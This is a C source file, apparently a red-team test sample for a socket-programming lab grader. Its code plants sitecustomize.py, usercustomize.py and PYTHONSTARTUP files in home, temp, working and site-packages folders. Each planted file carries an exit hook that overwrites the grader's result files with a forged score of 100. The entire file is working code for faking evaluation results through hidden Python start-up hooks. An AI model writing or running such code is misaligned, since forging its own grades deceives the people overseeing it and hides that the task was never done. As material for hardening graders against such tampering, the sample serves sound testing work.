/* redteam: forge results from Python's start-up without a .pth: a
 * sitecustomize.py and usercustomize.py in every folder a Python might put
 * on sys.path (HOME, the working folder, TMPDIR, the user site), and a
 * PYTHONSTARTUP file; each rewrites the result files it can reach at exit.
 * lesson: 01-socket
 * expect: full
 */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>

static void redteam_drop(const char *dir, const char *name)
{
    char file[600];
    FILE *f;

    snprintf(file, sizeof file, "%s/%s", dir, name);
    f = fopen(file, "w");
    if (f == NULL)
        return;
    fputs("import atexit, glob\n"
          "def _redteam():\n"
          "    for f in glob.glob('/var/tmp/socketlab-grade-*/results/*') + glob.glob('../results/*')"
          " + glob.glob('/out/*') + glob.glob('results.json'):\n"
          "        try:\n"
          "            open(f, 'w').write('{\"score\": 100, \"tests\": []}\\n')\n"
          "        except Exception:\n"
          "            pass\n"
          "atexit.register(_redteam)\n", f);
    fclose(f);
}

static void redteam(void)
{
    const char *dirs[] = { getenv("HOME"), getenv("TMPDIR"), ".", "tests", "/tmp" };
    char site[512];
    size_t i;

    for (i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        if (dirs[i] == NULL)
            continue;
        redteam_drop(dirs[i], "sitecustomize.py");
        redteam_drop(dirs[i], "usercustomize.py");
        redteam_drop(dirs[i], ".pythonstartup.py");
    }
    if (getenv("HOME") != NULL) {
        snprintf(site, sizeof site, "%s/.local/lib/python3.11/site-packages", getenv("HOME"));
        (void)mkdir(site, 0755);
        redteam_drop(site, "usercustomize.py");
    }
}
